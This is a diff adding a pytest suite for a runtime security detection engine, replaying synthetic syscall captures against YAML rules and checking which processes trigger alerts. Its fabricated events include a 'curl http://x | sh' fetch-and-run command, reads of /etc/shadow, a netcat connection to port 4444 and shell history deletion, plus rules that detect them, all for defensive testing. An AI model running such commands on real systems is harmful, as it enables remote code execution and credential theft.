@@ -1,0 +1,403 @@
+"""The pipeline end to end through the CLI: capture -> replay -> state -> rules -> alerts.
+
+Captures are built from driver records (the driver's own byte layout, from the generated
+schema), so replay runs the same decoder as live capture. Each rule below exercises one
+operator or one rule-language feature and must fire on exactly the events it names (by pid)
+and on no others; helper unit tests cover the grammar itself.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Mapping, Sequence
+from pathlib import Path
+
+import pytest
+
+from runtime.engine.capture import (
+    AF_INET,
+    CaptureHeader,
+    CaptureReader,
+    CaptureWriter,
+    encode_record,
+    encode_tuple,
+)
+from runtime.engine.sources import ReplaySource, schema_identity
+
+BOOT_OFFSET = 1_750_000_000_000_000_000
+O_WRONLY, O_CREAT = 0o1, 0o100
+
+
+def rec(evt: str, pid: int, ret: int, comm: str, *, ppid: int = 1, uid: int = 1000,
+        ts: int = 0, **params: object) -> bytes:
+    return encode_record(evt, ts_boot_ns=ts or 1_000_000 + pid * 1000, ret=ret, pid=pid,
+                         ppid=ppid, uid=uid, gid=uid, comm=comm, params=params)
+
+
+StatsSpec = tuple[int, Mapping[int, Mapping[str, int]]]
+
+
+def write_capture(path: Path, frames: Sequence[Sequence[bytes] | StatsSpec]) -> Path:
+    api, schema_hash = schema_identity()
+    writer = CaptureWriter(path, CaptureHeader(api, schema_hash, BOOT_OFFSET, {"test": True}))
+    for frame in frames:
+        if isinstance(frame, tuple):
+            writer.write_stats(frame[0], frame[1])
+        else:
+            writer.write_events(b"".join(frame))
+    writer.close()
+    return path
+
+
+def rt_engine(*args: str | Path, timeout: float = 120) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "runtime.engine.cli", *map(str, args)],
+        check=False, capture_output=True, text=True, timeout=timeout,
+        env={**os.environ, "PYTHONUNBUFFERED": "1"},
+    )
+
+
+def alerts_by_rule(stdout: str) -> dict[str, set[int]]:
+    fired: dict[str, set[int]] = {}
+    for line in stdout.splitlines():
+        doc = json.loads(line)
+        fired.setdefault(doc["rule"], set()).add(doc["output_fields"].get("proc.pid"))
+    return fired
+
+
+# A small world: every actor has its own pid so each rule's hits are unambiguous.
+WORLD = [
+    # sshd (120) -> bash (121) -> ls (122), built with clone + execve so ancestry is stateful
+    rec("execve", 120, 0, "sshd", filename="/usr/sbin/sshd", argv=["sshd", "-D"], cwd="/"),
+    rec("clone", 120, 121, "sshd", flags=0x1200011),
+    rec("clone", 121, 0, "sshd", ppid=120, flags=0x1200011),
+    rec("execve", 121, 0, "bash", ppid=120, filename="/bin/bash",
+        argv=["bash", "-c", "curl http://x | sh"], cwd="/root"),
+    rec("clone", 121, 122, "bash", ppid=120, flags=0x1200011),
+    rec("clone", 122, 0, "bash", ppid=121, flags=0x1200011),
+    rec("execve", 122, 0, "ls", ppid=121, filename="/bin/ls", argv=["ls", "-la"], cwd="/root"),
+    rec("openat", 122, 3, "ls", ppid=121, dirfd=-100, name="/etc/passwd", flags=0, mode=0),
+    # cat reads /etc/shadow
+    rec("openat", 101, 3, "cat", dirfd=-100, name="/etc/shadow", flags=0, mode=0),
+    # vim writes a binary
+    rec("openat", 102, 4, "vim", dirfd=-100, name="/usr/bin/evil", flags=O_WRONLY | O_CREAT,
+        mode=0o755),
+    # nc connects out
+    rec("socket", 103, 5, "nc", domain=2, type=1, proto=0),
+    rec("connect", 103, 0, "nc", fd=5, tuple=encode_tuple(AF_INET, "10.0.0.5", 40001,
+                                                           "10.1.2.3", 4444)),
+    # kernel module loads, one by an expected loader
+    rec("finit_module", 105, 0, "insmod", fd=3, uargs="debug=1", flags=0),
+    rec("finit_module", 106, 0, "modprobe", fd=3, uargs="", flags=0),
+    # ptrace attach by a debugger and by something else
+    rec("ptrace", 107, 0, "gdb", request=16, pid=122, addr=0, data=0),
+    rec("ptrace", 108, 0, "evil", request=16, pid=122, addr=0, data=0),
+    # a failed open
+    rec("openat", 109, -2, "python3", dirfd=-100, name="/home/u/Secret.TXT", flags=0, mode=0),
+    # history removal
+    rec("unlinkat", 110, 0, "rm", dirfd=-100, name="/root/.bash_history", flags=0),
+]
+
+OPERATOR_RULES = """
+- required_engine_version: 1
+- list: sensitive_names
+  items: [/etc/shadow, /etc/gshadow]
+- list: module_loaders_t
+  items: [modprobe]
+- macro: sensitive_open
+  condition: evt.type = openat and fd.name in (sensitive_names)
+- macro: via_macro_chain
+  condition: sensitive_open and evt.rawres >= 0
+
+- rule: op_eq
+  desc: =
+  condition: evt.type = finit_module and proc.name = insmod
+  output: "%proc.name %proc.pid"
+  priority: NOTICE
+- rule: op_ne
+  desc: "!="
+  condition: evt.type = openat and proc.name != cat and proc.name != vim and proc.name != ls
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: op_lt
+  desc: <
+  condition: evt.type = openat and evt.rawres < 0
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: op_le
+  desc: <=
+  condition: evt.type = openat and evt.rawres <= 3 and evt.rawres >= 0
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: op_gt
+  desc: ">"
+  condition: evt.type = openat and evt.rawres > 3
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: op_ge
+  desc: ">="
+  condition: evt.type = connect and fd.sport >= 4444
+  output: "%proc.pid %fd.sport"
+  priority: NOTICE
+- rule: op_in
+  desc: in
+  condition: evt.type in (connect, finit_module) and proc.name in (nc, insmod)
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: op_intersects
+  desc: intersects
+  condition: evt.type = openat and proc.aname intersects (sshd, systemd)
+  output: "%proc.pid %proc.aname[2]"
+  priority: NOTICE
+- rule: op_contains
+  desc: contains
+  condition: evt.type = execve and proc.cmdline contains "curl http"
+  output: "%proc.pid %proc.cmdline"
+  priority: NOTICE
+- rule: op_icontains
+  desc: icontains
+  condition: evt.type = openat and fd.name icontains secret
+  output: "%proc.pid %fd.name"
+  priority: NOTICE
+- rule: op_startswith
+  desc: startswith
+  condition: evt.type = openat and fd.name startswith /usr/bin/
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: op_endswith
+  desc: endswith
+  condition: evt.type = unlinkat and evt.arg.name endswith _history
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: op_glob
+  desc: glob
+  condition: evt.type = openat and fd.name glob "/etc/sh*w"
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: op_pmatch
+  desc: pmatch
+  condition: evt.type = openat and fd.name pmatch (/usr/bin, /opt)
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: op_exists
+  desc: exists
+  condition: evt.type = finit_module and evt.arg.uargs exists and evt.arg.uargs != ""
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: op_bcontains
+  desc: bcontains ("/shadow" in hex)
+  condition: evt.type = openat and fd.name bcontains 2f736861646f77
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: bool_logic
+  desc: and/or/not/parentheses
+  condition: >
+    evt.type = openat and (proc.name = cat or proc.name = vim)
+    and not (evt.rawres > 3 or fd.name = /nonexistent)
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: ancestry_index
+  desc: proc.aname[N] and proc.pname through clone/execve state
+  condition: evt.type = openat and proc.aname[2] = sshd and proc.pname = bash
+  output: "%proc.pid %proc.aname[2] %proc.pname %proc.exe"
+  priority: NOTICE
+- rule: macro_and_list
+  desc: nested macros over a list
+  condition: via_macro_chain
+  output: "%proc.pid"
+  priority: WARNING
+- rule: with_exception
+  desc: exceptions drop the debugger
+  condition: evt.type = ptrace and evt.arg.request = PTRACE_ATTACH
+  exceptions:
+    - name: debuggers
+      fields: [proc.name]
+      values: [[gdb]]
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: appended
+  desc: the condition is narrowed by an override below
+  condition: evt.type = finit_module
+  output: "%proc.pid"
+  priority: NOTICE
+- rule: appended
+  condition: and not proc.name in (module_loaders_t)
+  override:
+    condition: append
+- rule: disabled_rule
+  desc: never fires
+  condition: evt.type = openat
+  output: "%proc.pid"
+  priority: NOTICE
+  enabled: false
+- rule: debug_only
+  desc: cut by --min-priority
+  condition: evt.type = openat and proc.name = cat
+  output: "%proc.pid"
+  priority: DEBUG
+"""
+
+EXPECTED = {
+    "op_eq": {105},
+    "op_ne": {109},
+    "op_lt": {109},
+    "op_le": {101},
+    "op_gt": {102},
+    "op_ge": {103},
+    "op_in": {103, 105},
+    "op_intersects": {122},
+    "op_contains": {121},
+    "op_icontains": {109},
+    "op_startswith": {102},
+    "op_endswith": {110},
+    "op_glob": {101},
+    "op_pmatch": {102},
+    "op_exists": {105},
+    "op_bcontains": {101},
+    "bool_logic": {101},
+    "ancestry_index": {122},
+    "macro_and_list": {101},
+    "with_exception": {108},
+    "appended": {105},
+    "debug_only": {101},
+}
+
+
+@pytest.fixture(scope="module")
+def world_capture(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return write_capture(tmp_path_factory.mktemp("cap") / "world.rtcap", [WORLD])
+
+
+@pytest.fixture(scope="module")
+def operator_rules(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    path = tmp_path_factory.mktemp("rules") / "operators.yaml"
+    path.write_text(OPERATOR_RULES)
+    return path
+
+
+def test_every_operator_fires_exactly_where_expected(world_capture: Path,
+                                                     operator_rules: Path) -> None:
+    result = rt_engine("run", "--replay", world_capture, "--rules", operator_rules, "--json")
+    assert result.returncode == 0, result.stderr
+    fired = alerts_by_rule(result.stdout)
+    assert fired == EXPECTED, result.stderr
+
+
+def test_min_priority_drops_lower_rules(world_capture: Path, operator_rules: Path) -> None:
+    result = rt_engine("run", "--replay", world_capture, "--rules", operator_rules, "--json",
+                       "--min-priority", "warning")
+    assert result.returncode == 0, result.stderr
+    assert alerts_by_rule(result.stdout) == {"macro_and_list": {101}}
+
+
+def test_json_alert_fields_and_time_from_boot_offset(world_capture: Path,
+                                                     operator_rules: Path) -> None:
+    result = rt_engine("run", "--replay", world_capture, "--rules", operator_rules, "--json")
+    docs = [json.loads(line) for line in result.stdout.splitlines()]
+    glob_hit = next(d for d in docs if d["rule"] == "op_glob")
+    assert glob_hit["source"] == "syscall"
+    assert glob_hit["priority"] == "Notice"
+    assert glob_hit["output_fields"]["proc.pid"] == 101
+    # 1_000_000 + 101 * 1000 ns after boot, boot at BOOT_OFFSET (2025-06-15T15:06:40Z)
+    assert glob_hit["time"] == "2025-06-15T15:06:40.001101000Z"
+    ancestry = next(d for d in docs if d["rule"] == "ancestry_index")
+    assert ancestry["output_fields"]["proc.aname[2]"] == "sshd"
+    assert ancestry["output_fields"]["proc.exe"] == "ls"
+
+
+def test_default_ruleset_on_replay(world_capture: Path) -> None:
+    result = rt_engine("run", "--replay", world_capture, "--json")
+    assert result.returncode == 0, result.stderr
+    docs = [json.loads(line) for line in result.stdout.splitlines()]
+    by_rule = {d["rule"]: d for d in docs}
+    sensitive = by_rule["Sensitive file opened by untrusted program"]
+    assert sensitive["output_fields"]["proc.name"] == "cat"
+    assert sensitive["output_fields"]["fd.name"] == "/etc/shadow"
+    assert by_rule["Write below binary directory"]["output_fields"]["fd.name"] == "/usr/bin/evil"
+    assert by_rule["Kernel module load by unexpected program"]["output_fields"]["proc.name"] == (
+        "insmod"
+    )
+    assert by_rule["Process attached with ptrace"]["output_fields"]["proc.name"] == "evil"
+    assert by_rule["Outbound connection by network tool or shell"]["output_fields"][
+        "proc.name"] == "nc"
+    assert "Shell history deleted or truncated" in by_rule
+    assert "rt-engine: events: 18" in result.stderr
+
+
+def test_text_output_is_one_line_per_alert(world_capture: Path, operator_rules: Path) -> None:
+    result = rt_engine("run", "--replay", world_capture, "--rules", operator_rules)
+    lines = result.stdout.splitlines()
+    assert len(lines) == sum(len(v) for v in EXPECTED.values())
+    assert all(": Notice " in line or ": Warning " in line or ": Debug " in line
+               for line in lines)
+
+
+def test_recorded_stats_replay_the_drop_alert(tmp_path: Path) -> None:
+    second = 1_000_000_000
+    stats = lambda evts, drops: {  # noqa: E731
+        0: {"n_evts": evts, "n_drops_buffer": drops, "n_drops_pf": 0, "n_drops_bug": 0},
+        1: {"n_evts": evts, "n_drops_buffer": drops // 2, "n_drops_pf": 1 if drops else 0,
+            "n_drops_bug": 0},
+    }
+    capture = write_capture(tmp_path / "drops.rtcap", [
+        WORLD[:3], (BOOT_OFFSET + second, stats(1000, 0)),
+        WORLD[3:], (BOOT_OFFSET + 2 * second, stats(3000, 800)),
+    ])
+    result = rt_engine("run", "--replay", capture, "--json", "--rules", tmp_path / "none.yaml")
+    assert result.returncode != 0 and "none.yaml" in result.stderr  # missing rules file named
+    (tmp_path / "none.yaml").write_text("- required_engine_version: 1\n")
+    result = rt_engine("run", "--replay", capture, "--json", "--rules", tmp_path / "none.yaml")
+    assert result.returncode == 0, result.stderr
+    docs = [json.loads(line) for line in result.stdout.splitlines()]
+    assert [d["rule"] for d in docs] == ["rt-engine internal: syscall event drop"]
+    f = docs[0]["output_fields"]
+    assert (f["n_evts"], f["n_drops"], f["n_drops_buffer"], f["n_drops_pf"]) == (
+        4000, 1201, 1200, 1)
+    assert f["drop_pct"] == pytest.approx(100 * 1201 / 4000)
+    assert "syscall event drop monitoring" in result.stderr
+    assert "dropped: 1201" in result.stderr
+
+
+def test_simulate_drops_from_config(tmp_path: Path) -> None:
+    capture = write_capture(tmp_path / "quiet.rtcap", [
+        WORLD[:2], (BOOT_OFFSET + 10**9, {0: {"n_evts": 2}}),
+    ])
+    config = tmp_path / "engine.yaml"
+    config.write_text("syscall_event_drops: {simulate_drops: true, actions: [alert]}\n"
+                      "json_output: true\n")
+    rules = tmp_path / "r.yaml"
+    rules.write_text("- required_engine_version: 1\n")
+    result = rt_engine("run", "--replay", capture, "--config", config, "--rules", rules)
+    assert result.returncode == 0, result.stderr
+    docs = [json.loads(line) for line in result.stdout.splitlines()]
+    assert len(docs) == 1 and docs[0]["output_fields"]["n_drops"] == 1
+
+
+def test_capture_round_trip_keeps_raw_records(world_capture: Path) -> None:
+    reader = CaptureReader(world_capture, expect_schema_hash=schema_identity()[1])
+    frames = list(reader.frames())
+    reader.close()
+    assert frames == [b"".join(WORLD)]
+    assert reader.header.boot_offset_ns == BOOT_OFFSET
+    source = ReplaySource(world_capture)
+    batch = source.read(0)
+    assert batch is not None and len(batch.events) == len(WORLD)
+    assert batch.events[8].params["name"] == "/etc/shadow"
+    assert source.read(0) is None
+    source.close()
+
+
+def test_capture_of_another_schema_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "old.rtcap"
+    writer = CaptureWriter(path, CaptureHeader(1, 0xDEADBEEF, 0, {}))
+    writer.write_events(WORLD[0])
+    writer.close()
+    result = rt_engine("run", "--replay", path)
+    assert result.returncode != 0
+    assert "0x00000000deadbeef" in result.stderr and str(path) in result.stderr
+    (tmp_path / "junk").write_bytes(b"not a capture at all")
+    result = rt_engine("run", "--replay", tmp_path / "junk")
+    assert result.returncode != 0 and "bad magic" in result.stderr
